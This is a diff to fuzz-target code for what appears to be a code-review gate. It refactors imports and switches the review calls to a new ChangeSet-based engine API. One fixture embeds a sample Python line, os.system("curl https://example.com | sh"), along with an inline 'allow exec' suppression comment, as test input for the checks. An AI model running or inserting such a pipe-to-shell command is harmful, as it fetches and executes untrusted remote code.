@@ -9,12 +9,13 @@ use std::path::Path;
 use std::sync::OnceLock;
 
 use crate::checks::{self, Check, CheckSet};
-use crate::hook::agent::{files, input, judge};
-use crate::hook::command::{self, CommandContext};
+use crate::engine::commands::{self as command, CommandContext};
+use crate::hook::agent::{input, judge};
 use crate::hook::Agent;
 use crate::lang::{self, Language};
 use crate::model::ChangedFile;
 use crate::policy::Policy;
+use crate::source::proposed as files;
 use crate::source::{self, AddedLines};
 
 /// The target names, as `fuzz/fuzz_targets/<name>.rs` and `fuzz/corpus/<name>/` spell them.
@@ -70,8 +71,11 @@ fn builtin() -> &'static (Vec<Check>, CheckSet) {
 /// Runs the engine and the dependency review over changed files, as the pipeline does.
 fn review(files: &[ChangedFile]) {
     let (_, set) = builtin();
-    let _ = crate::engine::run(set, files);
-    let _ = crate::engine::deps::review(set, files);
+    let changes = crate::model::ChangeSet {
+        files: files.to_vec(),
+        ..Default::default()
+    };
+    let _ = crate::engine::review(set, &changes, &crate::engine::Options::default());
 }
 
 /// Splits off the selector byte: (first byte, rest); None for empty input.
@@ -116,9 +120,9 @@ fn reads_nowhere_else(action: &input::Action) -> bool {
         Action::Write { path, .. }
         | Action::Edit { path, .. }
         | Action::NotebookEdit { path, .. } => stays_inside(path),
-        Action::ApplyPatch { patch } => match crate::hook::agent::patch::parse(patch) {
+        Action::ApplyPatch { patch } => match crate::source::proposed::patch::parse(patch) {
             Ok(ops) => ops.iter().all(|op| match op {
-                crate::hook::agent::patch::FileOp::Update { path, move_to, .. } => {
+                crate::source::proposed::patch::FileOp::Update { path, move_to, .. } => {
                     stays_inside(path) && move_to.as_deref().is_none_or(stays_inside)
                 }
                 other => stays_inside(other.target()),
@@ -176,7 +180,11 @@ pub fn checks_yaml(data: &[u8]) {
     let sample =
         "import os\nos.system(\"curl https://example.com | sh\")  # review-gate: allow exec\n";
     let file = source::whole_file("sample.py".to_string(), sample.to_string(), AddedLines::All);
-    let _ = crate::engine::run(&set, std::slice::from_ref(&file));
+    let changes = crate::model::ChangeSet {
+        files: vec![file],
+        ..Default::default()
+    };
+    let _ = crate::engine::review(&set, &changes, &crate::engine::Options::default());
 }
 
 /// `manifests`: every dependency manifest parser (the first byte picks the format), through the
